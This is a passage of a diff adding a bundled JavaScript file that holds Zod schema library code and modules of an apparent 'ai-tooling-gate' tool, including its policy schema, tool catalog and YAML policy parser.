+    maxDate: (inst) => {
+        const { maximum } = aggregateChecks(inst);
+        return maximum ? new Date(maximum) : null;
+    },
+}, {}));
+function schemas_date(params) {
+    return core._date(ZodDate, params);
+}
+const ZodArray = /*@__PURE__*/ $constructor("ZodArray", (inst, def) => {
+    _ensureDefaultMemoizer();
+    $ZodArray.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => arrayProcessor(inst, ctx, json, params);
+    inst.element = def.element;
+}, {
+    min(n, params) {
+        return this.check(_minLength(n, params));
+    },
+    nonempty(params) {
+        return this.check(_minLength(1, params));
+    },
+    max(n, params) {
+        return this.check(_maxLength(n, params));
+    },
+    length(n, params) {
+        return this.check(_length(n, params));
+    },
+    unwrap() {
+        return this.element;
+    },
+});
+function array(element, params) {
+    return _array(ZodArray, element, params);
+}
+// .keyof
+function keyof(schema) {
+    const shape = schema._zod.def.shape;
+    return schemas_enum(Object.keys(shape));
+}
+const ZodObject = /*@__PURE__*/ $constructor("ZodObject", (inst, def) => {
+    _ensureDefaultMemoizer();
+    $ZodObjectJIT.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => objectProcessor(inst, ctx, json, params);
+    installLazyProp(inst, "shape", (self) => self._zod.def.shape, false);
+}, {
+    keyof() {
+        return schemas_enum(Object.keys(this._zod.def.shape));
+    },
+    catchall(catchall) {
+        // `mergeDefs` rather than a spread: spreading reads `shape`, and resolving it can mint a whole fresh subtree
+        return this.clone(mergeDefs(this._zod.def, { catchall: catchall }));
+    },
+    passthrough() {
+        return this.clone(mergeDefs(this._zod.def, { catchall: unknown() }));
+    },
+    loose() {
+        return this.clone(mergeDefs(this._zod.def, { catchall: unknown() }));
+    },
+    strict() {
+        return this.clone(mergeDefs(this._zod.def, { catchall: never() }));
+    },
+    strip() {
+        return this.clone(mergeDefs(this._zod.def, { catchall: undefined }));
+    },
+    extend(incoming) {
+        return extend(this, incoming);
+    },
+    safeExtend(incoming) {
+        return safeExtend(this, incoming);
+    },
+    merge(other) {
+        return merge(this, other);
+    },
+    pick(mask) {
+        return util_pick(this, mask);
+    },
+    omit(mask) {
+        return omit(this, mask);
+    },
+    partial(...args) {
+        return partial(ZodOptional, this, args[0]);
+    },
+    exactPartial(...args) {
+        return partial(ZodExactOptional, this, args[0], "exactPartial");
+    },
+    required(...args) {
+        return required(ZodNonOptional, this, args[0]);
+    },
+});
+function object(shape, params) {
+    const def = {
+        type: "object",
+        shape: shape ?? {},
+        ...util.normalizeParams(params),
+    };
+    return new ZodObject(def);
+}
+// strictObject
+function strictObject(shape, params) {
+    return new ZodObject({
+        type: "object",
+        shape,
+        catchall: never(),
+        ...normalizeParams(params),
+    });
+}
+// looseObject
+function looseObject(shape, params) {
+    return new ZodObject({
+        type: "object",
+        shape,
+        catchall: unknown(),
+        ...util.normalizeParams(params),
+    });
+}
+const ZodUnion = /*@__PURE__*/ $constructor("ZodUnion", (inst, def) => {
+    $ZodUnion.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => unionProcessor(inst, ctx, json, params);
+    inst.options = def.options;
+});
+function union(options, params) {
+    return new ZodUnion({
+        type: "union",
+        options: options,
+        ...normalizeParams(params),
+    });
+}
+const ZodXor = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodXor", (inst, def) => {
+    ZodUnion.init(inst, def);
+    core.$ZodXor.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.unionProcessor(inst, ctx, json, params);
+    inst.options = def.options;
+})));
+/** Creates an exclusive union (XOR) where exactly one option must match.
+ * Unlike regular unions that succeed when any option matches, xor fails if
+ * zero or more than one option matches the input. */
+function xor(options, params) {
+    return new ZodXor({
+        type: "union",
+        options: options,
+        inclusive: false,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodDiscriminatedUnion = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodDiscriminatedUnion", (inst, def) => {
+    ZodUnion.init(inst, def);
+    core.$ZodDiscriminatedUnion.init(inst, def);
+})));
+function discriminatedUnion(discriminator, options, params) {
+    // const [options, params] = args;
+    return new ZodDiscriminatedUnion({
+        type: "union",
+        options: options,
+        discriminator,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodIntersection = /*@__PURE__*/ $constructor("ZodIntersection", (inst, def) => {
+    $ZodIntersection.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => intersectionProcessor(inst, ctx, json, params);
+});
+function intersection(left, right) {
+    return new ZodIntersection({
+        type: "intersection",
+        left: left,
+        right: right,
+    });
+}
+const ZodTuple = /*@__PURE__*/ $constructor("ZodTuple", (inst, def) => {
+    _ensureDefaultMemoizer();
+    $ZodTuple.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => tupleProcessor(inst, ctx, json, params);
+}, {
+    rest(rest) {
+        return this.clone({
+            ...this._zod.def,
+            rest: rest,
+        });
+    },
+    partial() {
+        const def = this._zod.def;
+        // a refinement was authored against the full arity; partialing would run it on a shorter array
+        if (def.checks?.length)
+            throw new Error(".partial() cannot be used on tuple schemas containing refinements");
+        return this.clone({
+            ...def,
+            items: def.items.map((item) => new ZodOptional({ type: "optional", innerType: item })),
+        });
+    },
+});
+function tuple(items, _paramsOrRest, _params) {
+    const hasRest = _paramsOrRest instanceof core.$ZodType;
+    const params = hasRest ? _params : _paramsOrRest;
+    const rest = hasRest ? _paramsOrRest : null;
+    return new ZodTuple({
+        type: "tuple",
+        items: items,
+        rest,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodRecord = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodRecord", (inst, def) => {
+    _ensureDefaultMemoizer();
+    core.$ZodRecord.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.recordProcessor(inst, ctx, json, params);
+    inst.keyType = def.keyType;
+    inst.valueType = def.valueType;
+})));
+function record(keyType, valueType, params) {
+    // v3-compat: z.record(valueType, params?) — defaults keyType to z.string()
+    if (!valueType || !valueType._zod) {
+        return new ZodRecord({
+            type: "record",
+            keyType: schemas_string(),
+            valueType: keyType,
+            ...util.normalizeParams(valueType),
+        });
+    }
+    return new ZodRecord({
+        type: "record",
+        keyType,
+        valueType: valueType,
+        ...util.normalizeParams(params),
+    });
+}
+// type alksjf = core.output<core.$ZodRecordKey>;
+function partialRecord(keyType, valueType, params) {
+    return new ZodRecord({
+        type: "record",
+        keyType,
+        valueType: valueType,
+        ...util.normalizeParams(params),
+        partial: true,
+    });
+}
+function looseRecord(keyType, valueType, params) {
+    return new ZodRecord({
+        type: "record",
+        keyType,
+        valueType: valueType,
+        mode: "loose",
+        ...util.normalizeParams(params),
+    });
+}
+const ZodMap = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodMap", (inst, def) => {
+    _ensureDefaultMemoizer();
+    core.$ZodMap.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.mapProcessor(inst, ctx, json, params);
+    inst.keyType = def.keyType;
+    inst.valueType = def.valueType;
+    inst.min = (...args) => inst.check(core._minSize(...args));
+    inst.nonempty = (params) => inst.check(core._minSize(1, params));
+    inst.max = (...args) => inst.check(core._maxSize(...args));
+    inst.size = (...args) => inst.check(core._size(...args));
+})));
+function map(keyType, valueType, params) {
+    return new ZodMap({
+        type: "map",
+        keyType: keyType,
+        valueType: valueType,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodSet = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodSet", (inst, def) => {
+    _ensureDefaultMemoizer();
+    core.$ZodSet.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.setProcessor(inst, ctx, json, params);
+    inst.min = (...args) => inst.check(core._minSize(...args));
+    inst.nonempty = (params) => inst.check(core._minSize(1, params));
+    inst.max = (...args) => inst.check(core._maxSize(...args));
+    inst.size = (...args) => inst.check(core._size(...args));
+})));
+function set(valueType, params) {
+    return new ZodSet({
+        type: "set",
+        valueType: valueType,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodEnum = /*@__PURE__*/ $constructor("ZodEnum", (inst, def) => {
+    $ZodEnum.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => enumProcessor(inst, ctx, json, params);
+    inst.enum = def.entries;
+    // reuse the parsed value set so a numeric TS enum's reverse-mapping keys stay out
+    inst.options = [...inst._zod.values];
+    const keys = new Set(Object.keys(def.entries));
+    inst.extract = (values, params) => {
+        const newEntries = {};
+        for (const value of values) {
+            if (keys.has(value)) {
+                newEntries[value] = def.entries[value];
+            }
+            else
+                throw new Error(`Key ${value} not found in enum`);
+        }
+        return new ZodEnum({
+            ...def,
+            checks: [],
+            ...normalizeParams(params),
+            entries: newEntries,
+        });
+    };
+    inst.exclude = (values, params) => {
+        const newEntries = { ...def.entries };
+        for (const value of values) {
+            if (keys.has(value)) {
+                delete newEntries[value];
+            }
+            else
+                throw new Error(`Key ${value} not found in enum`);
+        }
+        return new ZodEnum({
+            ...def,
+            checks: [],
+            ...normalizeParams(params),
+            entries: newEntries,
+        });
+    };
+});
+function schemas_enum(values, params) {
+    const entries = Array.isArray(values) ? Object.fromEntries(values.map((v) => [v, v])) : values;
+    return new ZodEnum({
+        type: "enum",
+        entries,
+        ...normalizeParams(params),
+    });
+}
+
+/** @deprecated This API has been merged into `z.enum()`. Use `z.enum()` instead.
+ *
+ * ```ts
+ * enum Colors { red, green, blue }
+ * z.enum(Colors);
+ * ```
+ */
+function nativeEnum(entries, params) {
+    return new ZodEnum({
+        type: "enum",
+        entries,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodLiteral = /*@__PURE__*/ $constructor("ZodLiteral", (inst, def) => {
+    $ZodLiteral.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => literalProcessor(inst, ctx, json, params);
+    inst.values = new Set(def.values);
+    Object.defineProperty(inst, "value", {
+        get() {
+            if (def.values.length > 1) {
+                throw new Error("This schema contains multiple valid literal values. Use `.values` instead.");
+            }
+            return def.values[0];
+        },
+    });
+});
+function literal(value, params) {
+    return new ZodLiteral({
+        type: "literal",
+        values: Array.isArray(value) ? value : [value],
+        ...normalizeParams(params),
+    });
+}
+const ZodFile = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodFile", (inst, def) => {
+    core.$ZodFile.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.fileProcessor(inst, ctx, json, params);
+    inst.min = (size, params) => inst.check(core._minSize(size, params));
+    inst.max = (size, params) => inst.check(core._maxSize(size, params));
+    inst.mime = (types, params) => inst.check(core._mime(Array.isArray(types) ? types : [types], params));
+})));
+function file(params) {
+    return core._file(ZodFile, params);
+}
+const ZodTransform = /*@__PURE__*/ $constructor("ZodTransform", (inst, def) => {
+    _ensureDefaultMemoizer();
+    $ZodTransform.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => transformProcessor(inst, ctx, json, params);
+    inst._zod.parse = (payload, _ctx) => {
+        if (_ctx.direction === "backward") {
+            throw new $ZodEncodeError(inst.constructor.name);
+        }
+        payload.addIssue = (issue) => {
+            if (typeof issue === "string") {
+                payload.issues.push(util_issue(issue, payload.value, def));
+            }
+            else {
+                // for Zod 3 backwards compatibility
+                const _issue = issue;
+                if (_issue.fatal)
+                    _issue.continue = false;
+                _issue.code ?? (_issue.code = "custom");
+                if (!("input" in _issue))
+                    _issue.input = payload.value;
+                _issue.inst ?? (_issue.inst = inst);
+                // _issue.continue ??= true;
+                payload.issues.push(util_issue(_issue));
+            }
+        };
+        const output = def.transform(payload.value, payload);
+        if (output instanceof Promise) {
+            return output.then((output) => {
+                payload.value = output;
+                return payload;
+            });
+        }
+        payload.value = output;
+        return payload;
+    };
+});
+function transform(fn) {
+    return new ZodTransform({
+        type: "transform",
+        transform: fn,
+    });
+}
+const ZodOptional = /*@__PURE__*/ $constructor("ZodOptional", (inst, def) => {
+    $ZodOptional.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => optionalProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+});
+function optional(innerType) {
+    return new ZodOptional({
+        type: "optional",
+        innerType: innerType,
+    });
+}
+const ZodExactOptional = /*@__PURE__*/ $constructor("ZodExactOptional", (inst, def) => {
+    $ZodExactOptional.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => optionalProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+});
+function exactOptional(innerType) {
+    return new ZodExactOptional({
+        type: "optional",
+        innerType: innerType,
+    });
+}
+const ZodNullable = /*@__PURE__*/ $constructor("ZodNullable", (inst, def) => {
+    $ZodNullable.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => nullableProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+});
+function nullable(innerType) {
+    return new ZodNullable({
+        type: "nullable",
+        innerType: innerType,
+    });
+}
+// nullish
+function schemas_nullish(innerType) {
+    return optional(nullable(innerType));
+}
+const ZodDefault = /*@__PURE__*/ $constructor("ZodDefault", (inst, def) => {
+    $ZodDefault.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => defaultProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+    inst.removeDefault = inst.unwrap;
+});
+function schemas_default(innerType, defaultValue) {
+    return new ZodDefault({
+        type: "default",
+        innerType: innerType,
+        get defaultValue() {
+            return typeof defaultValue === "function" ? defaultValue() : shallowClone(defaultValue);
+        },
+    });
+}
+const ZodPrefault = /*@__PURE__*/ $constructor("ZodPrefault", (inst, def) => {
+    $ZodPrefault.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => prefaultProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+});
+function prefault(innerType, defaultValue) {
+    return new ZodPrefault({
+        type: "prefault",
+        innerType: innerType,
+        get defaultValue() {
+            return typeof defaultValue === "function" ? defaultValue() : shallowClone(defaultValue);
+        },
+    });
+}
+const ZodNonOptional = /*@__PURE__*/ $constructor("ZodNonOptional", (inst, def) => {
+    $ZodNonOptional.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => nonoptionalProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+});
+function nonoptional(innerType, params) {
+    return new ZodNonOptional({
+        type: "nonoptional",
+        innerType: innerType,
+        ...normalizeParams(params),
+    });
+}
+const ZodSuccess = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodSuccess", (inst, def) => {
+    core.$ZodSuccess.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.successProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+})));
+function success(innerType) {
+    return new ZodSuccess({
+        type: "success",
+        innerType: innerType,
+    });
+}
+const ZodCatch = /*@__PURE__*/ $constructor("ZodCatch", (inst, def) => {
+    $ZodCatch.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => catchProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+    inst.removeCatch = inst.unwrap;
+});
+function schemas_catch(innerType, catchValue) {
+    return new ZodCatch({
+        type: "catch",
+        innerType: innerType,
+        catchValue: (typeof catchValue === "function" ? catchValue : constantCatch(catchValue)),
+    });
+}
+
+const ZodNaN = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodNaN", (inst, def) => {
+    core.$ZodNaN.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.nanProcessor(inst, ctx, json, params);
+})));
+function nan(params) {
+    return core._nan(ZodNaN, params);
+}
+const ZodPipe = /*@__PURE__*/ $constructor("ZodPipe", (inst, def) => {
+    $ZodPipe.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => pipeProcessor(inst, ctx, json, params);
+    inst.in = def.in;
+    inst.out = def.out;
+});
+function pipe(in_, out) {
+    return new ZodPipe({
+        type: "pipe",
+        in: in_,
+        out: out,
+        // ...util.normalizeParams(params),
+    });
+}
+const ZodCodec = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodCodec", (inst, def) => {
+    ZodPipe.init(inst, def);
+    core.$ZodCodec.init(inst, def);
+})));
+function codec(in_, out, params) {
+    return new ZodCodec({
+        type: "pipe",
+        in: in_,
+        out: out,
+        transform: params.decode,
+        reverseTransform: params.encode,
+    });
+}
+function invertCodec(codec) {
+    const def = codec._zod.def;
+    return new ZodCodec({
+        type: "pipe",
+        in: def.out,
+        out: def.in,
+        transform: def.reverseTransform,
+        reverseTransform: def.transform,
+    });
+}
+const ZodPreprocess = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodPreprocess", (inst, def) => {
+    ZodPipe.init(inst, def);
+    core.$ZodPreprocess.init(inst, def);
+})));
+const ZodReadonly = /*@__PURE__*/ $constructor("ZodReadonly", (inst, def) => {
+    $ZodReadonly.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => readonlyProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+});
+function readonly(innerType) {
+    return new ZodReadonly({
+        type: "readonly",
+        innerType: innerType,
+    });
+}
+const ZodTemplateLiteral = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodTemplateLiteral", (inst, def) => {
+    core.$ZodTemplateLiteral.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.templateLiteralProcessor(inst, ctx, json, params);
+})));
+function templateLiteral(parts, params) {
+    return new ZodTemplateLiteral({
+        type: "template_literal",
+        parts,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodLazy = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodLazy", (inst, def) => {
+    core.$ZodLazy.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.lazyProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.getter();
+})));
+function lazy(getter) {
+    return new ZodLazy({
+        type: "lazy",
+        getter: getter,
+    });
+}
+const ZodPromise = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodPromise", (inst, def) => {
+    core.$ZodPromise.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.promiseProcessor(inst, ctx, json, params);
+    inst.unwrap = () => inst._zod.def.innerType;
+})));
+function promise(innerType) {
+    return new ZodPromise({
+        type: "promise",
+        innerType: innerType,
+    });
+}
+const ZodFunction = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodFunction", (inst, def) => {
+    core.$ZodFunction.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.functionProcessor(inst, ctx, json, params);
+})));
+function _function(params) {
+    return new ZodFunction({
+        type: "function",
+        input: Array.isArray(params?.input) ? tuple(params?.input) : (params?.input ?? array(unknown())),
+        output: params?.output ?? unknown(),
+    });
+}
+
+const ZodCustom = /*@__PURE__*/ $constructor("ZodCustom", (inst, def) => {
+    $ZodCustom.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => customProcessor(inst, ctx, json, params);
+});
+// custom checks
+function check(fn) {
+    const ch = new core.$ZodCheck({
+        check: "custom",
+        // ...util.normalizeParams(params),
+    });
+    ch._zod.check = fn;
+    return ch;
+}
+function custom(fn, _params) {
+    return core._custom(ZodCustom, fn ?? (() => true), _params);
+}
+function refine(fn, _params = {}) {
+    return _refine(ZodCustom, fn, _params);
+}
+// superRefine
+function superRefine(fn, params) {
+    return _superRefine(fn, params);
+}
+// Re-export describe and meta from core
+const schemas_describe = describe;
+const schemas_meta = meta;
+const ZodInstanceOf = /*@__PURE__*/ $constructor("ZodInstanceOf", (inst, def) => {
+    ZodCustom.init(inst, def);
+}, {
+    properties(shape, params) {
+        // asserts in place, so the narrowed output type is truthful without a wrapper
+        return this.check(_properties(shape, params));
+    },
+});
+function _instanceof(cls, params = {}) {
+    const inst = new ZodInstanceOf({
+        type: "custom",
+        check: "custom",
+        fn: (data) => data instanceof cls,
+        abort: true,
+        ...util.normalizeParams(params),
+    });
+    inst._zod.bag.Class = cls;
+    // Override check to emit invalid_type instead of custom
+    inst._zod.check = (payload) => {
+        if (!(payload.value instanceof cls)) {
+            payload.issues.push({
+                code: "invalid_type",
+                expected: cls.name,
+                input: payload.value,
+                inst,
+                path: [...(inst._zod.def.path ?? [])],
+            });
+        }
+    };
+    return inst;
+}
+
+// stringbool
+const stringbool = (...args) => core._stringbool({
+    Codec: ZodCodec,
+    Boolean: ZodBoolean,
+    String: ZodString,
+}, ...args);
+function json(params) {
+    const jsonSchema = lazy(() => {
+        return union([schemas_string(params), schemas_number(), schemas_boolean(), schemas_null(), array(jsonSchema), record(schemas_string(), jsonSchema)]);
+    });
+    return jsonSchema;
+}
+// preprocess
+function preprocess(fn, schema) {
+    return new ZodPreprocess({
+        type: "pipe",
+        in: transform(fn),
+        out: schema,
+    });
+}
+
+;// CONCATENATED MODULE: ./src/policy/schema.ts
+// The policy file, version 1, defined once: validation (with zod) and the JSON Schema shipped in
+// schema/ai-tooling-policy.schema.json (generated from this definition: `npm run schema`).
+
+
+const ECOSYSTEMS = [
+    'npm',
+    'pypi',
+    'jsr',
+    'vscode-extension',
+    'devcontainer-feature',
+    'github-action',
+    'homebrew',
+    'installer',
+];
+const TOOL_IDS = tools_tools.map((t) => t.id);
+const RULE_ID = /^[A-Za-z0-9][A-Za-z0-9._:/-]*$/;
+const DATE = /^\d{4}-\d{2}-\d{2}$/;
+const schema_text = schemas_string().min(1);
+const ruleSchema = strictObject({
+    id: schemas_string()
+        .regex(RULE_ID)
+        .describe('Unique across the merged policy. Letters, digits and . _ : / - (e.g. claude-code-fingerprinting).'),
+    tool: schemas_enum(TOOL_IDS)
+        .optional()
+        .describe('A tool of the built-in catalog (`ai-tooling-gate catalog`): the rule covers every carrier of it.'),
+    ecosystem: schemas_enum(ECOSYSTEMS).optional().describe('With package: one identity instead of a tool.'),
+    package: schema_text
+        .optional()
+        .describe('Exact name or a * glob, compared the ecosystem\'s way ("@anthropic-ai/claude-code*").'),
+    versions: schema_text
+        .optional()
+        .describe("Range in the tool's own version line (tool rules) or the ecosystem's syntax (semver for npm, PEP 440 for pypi). Omitted = every version."),
+    action: schemas_enum(['fail', 'warn']).optional().describe('fail (default) fails the gate; warn only reports.'),
+    reason: schema_text.optional().describe('Why: shown in every finding of the rule.'),
+    link: schema_text.optional().describe('Where to read more (an advisory, a ticket).'),
+    locked: schemas_boolean()
+        .optional()
+        .describe('A locked rule cannot be overridden by a file that extends this one, and only this file may grant exceptions to it.'),
+})
+    .describe('A ban: a tool (every carrier) or one identity (ecosystem + package), optionally limited to versions.');
+const exceptionSchema = strictObject({
+    rule: schemas_string().min(1).describe('The id of the rule it silences.'),
+    package: schema_text.optional().describe('Only this carrier or package (exact or * glob).'),
+    versions: schema_text.optional().describe('Only these versions, in the same version line as the rule.'),
+    paths: array(schema_text)
+        .optional()
+        .describe('Only findings in files matching these globs, relative to the repository root.'),
+    reason: schema_text.describe('Why the exception is granted (shown in the report).'),
+    expires: schemas_string()
+        .regex(DATE)
+        .describe('YYYY-MM-DD. The exception applies through this day (UTC), then no longer.'),
+})
+    .describe('Silences the findings of one rule where it applies, until it expires.');
+const settingsSchema = strictObject({
+    unknownVersion: schemas_enum(['fail', 'warn', 'ignore'])
+        .optional()
+        .describe('What a matching component whose version cannot be known becomes (default warn).'),
+});
+const policySchema = strictObject({
+    $schema: schemas_string().optional().describe('The JSON Schema of this file, for editors.'),
+    version: literal(1).describe('The policy format version: 1.'),
+    extends: array(schema_text)
+        .optional()
+        .describe('Policies merged before this one: builtin:advisories, builtin:ai-coding-tools, builtin:default, a path relative to this file, or github:OWNER/REPO/PATH@REF.'),
+    settings: settingsSchema.optional(),
+    rules: array(ruleSchema).optional(),
+    exceptions: array(exceptionSchema).optional(),
+})
+    .describe('ai-tooling-gate policy, version 1');
+/** The JSON Schema of the policy file, as committed in schema/ai-tooling-policy.schema.json. */
+function policyJsonSchema() {
+    const generated = z.toJSONSchema(policySchema, { target: 'draft-2020-12' });
+    const { $schema, ...rest } = generated;
+    return { $schema, title: 'ai-tooling-gate policy', ...rest };
+}
+
+;// CONCATENATED MODULE: ./src/catalog/index.ts
+
+
+
+const byId = new Map(tools_tools.map((t) => [t.id, t]));
+const catalog = {
+    tools: tools_tools,
+    tool: (id) => byId.get(id),
+};
+/**
+ * For devcontainer detectors: the option of a known feature that carries the tool version and its
+ * default (`undefined` for a feature the catalog does not know; `null` for a known feature without a
+ * version option, which always installs the latest release).
+ */
+function featureVersionOption(featureId) {
+    const id = featureId.toLowerCase();
+    for (const t of tools) {
+        for (const c of t.carriers) {
+            if (c.ecosystem === 'devcontainer-feature' && c.package === id)
+                return c.versionOption ?? null;
+        }
+    }
+    return undefined;
+}
+/** The tools a component could belong to (for reports and for `builtin:ai-coding-tools`). */
+function carriersOf(ecosystem) {
+    const out = [];
+    for (const tool of tools)
+        for (const carrier of tool.carriers)
+            if (carrier.ecosystem === ecosystem)
+                out.push({ tool, carrier });
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/policy/parse.ts
+// Parses one policy file: YAML (or JSON, which is YAML) with source positions, validated against
+// the schema, every problem reported as `file:line:column: path: what is wrong`.
+
+
+
+
+/** A policy that cannot be used: exit 2 with `file:line:column: message` (one line per problem). */
+class parse_PolicyError extends Error {
+    file;
+    line;
+    column;
+    reason;
+    issues;
+    constructor(file, line, column, reason, more = []) {
+        const first = { file, line, column, message: reason };
+        const issues = [first, ...more];
+        super(issues.map(formatIssue).join('\n'));
+        this.file = file;
+        this.line = line;
+        this.column = column;
+        this.reason = reason;
+        this.issues = issues;
+    }
+    static of(issues) {
+        const [first, ...more] = issues;
+        return new parse_PolicyError(first.file, first.line, first.column, first.message, more);
+    }
+}
+function formatIssue(i) {
+    return i.line > 0 ? `${i.file}:${i.line}:${i.column}: ${i.message}` : `${i.file}: ${i.message}`;
+}
+function formatOrigin(o) {
+    if (!o)
+        return 'an unknown place';
+    return o.line > 0 ? `${o.file}:${o.line}:${o.column}` : o.file;
+}
+/** Where the nodes of a document are, by path. */
+class Locator {
+    file;
+    doc;
+    lines;
+    constructor(file, doc, lines) {
+        this.file = file;
+        this.doc = doc;
+        this.lines = lines;
+    }
+    origin(offset) {
+        const p = this.lines.linePos(offset);
+        return { file: this.file, line: p.line, column: p.col };
+    }
+    /** The value node at a path, or the nearest existing ancestor. */
+    at(path) {
+        for (let n = path.length; n >= 0; n--) {
+            const node = this.doc.getIn(path.slice(0, n), true);
+            if (node && node.range)
+                return this.origin(node.range[0]);
+            if (n === 0 && this.doc.contents?.range)
+                return this.origin(this.doc.contents.range[0]);
+        }
+        return { file: this.file, line: 1, column: 1 };
+    }
+    /** The key of `key` in the mapping at `path`. */
+    key(path, key) {
+        const map = path.length === 0 ? this.doc.contents : this.doc.getIn(path, true);
+        if ((0,dist/* isMap */.jh)(map)) {
+            for (const pair of map.items) {
+                if ((0,dist/* isScalar */.jn)(pair.key) && String(pair.key.value) === key && pair.key.range) {
+                    return this.origin(pair.key.range[0]);
+                }
+            }
+        }
+        return this.at(path);
+    }
+    has(path) {
+        return this.doc.hasIn(path);
+    }
+}
+function pathText(path) {
+    let s = '';
+    for (const p of path)
+        s += typeof p === 'number' ? `[${p}]` : s === '' ? p : `.${p}`;
+    return s;
+}
+function parse_describe(v) {
+    if (v === null || v === undefined)
+        return 'empty';
+    if (typeof v === 'string')
+        return JSON.stringify(v);
+    if (typeof v === 'number' || typeof v === 'boolean')
+        return String(v);
+    if (Array.isArray(v))
+        return 'a list';
+    return 'a mapping';
+}
+function valueAt(data, path) {
+    let v = data;
+    for (const p of path) {
+        if (v === null || typeof v !== 'object')
+            return undefined;
+        v = v[p];
+    }
+    return v;
+}
+/** The closest candidate by edit distance, when it is close enough to be a typo. */
+function didYouMean(word, candidates) {
+    let best = '';
+    let bestD = Infinity;
+    for (const c of candidates) {
+        const d = editDistance(word.toLowerCase(), c.toLowerCase());
+        if (d < bestD) {
+            bestD = d;
+            best = c;
+        }
+    }
+    if (best && bestD <= Math.max(1, Math.floor(word.length / 3)))
+        return ` (did you mean "${best}"?)`;
+    // A shortened name (`claude` for `claude-code`): the one candidate it starts.
+    const w = word.toLowerCase();
+    const starts = w.length >= 3 ? candidates.filter((c) => c.toLowerCase().startsWith(w)) : [];
+    if (starts.length === 1)
+        return ` (did you mean "${starts[0]}"?)`;
+    if (starts.length > 1)
+        return ` (did you mean one of ${starts.map((c) => `"${c}"`).join(', ')}?)`;
+    return '';
+}
+function editDistance(a, b) {
+    if (a.length > 64 || b.length > 64)
+        return Infinity;
+    const prev = Array.from({ length: b.length + 1 }, (_, i) => i);
+    for (let i = 1; i <= a.length; i++) {
+        let diag = prev[0];
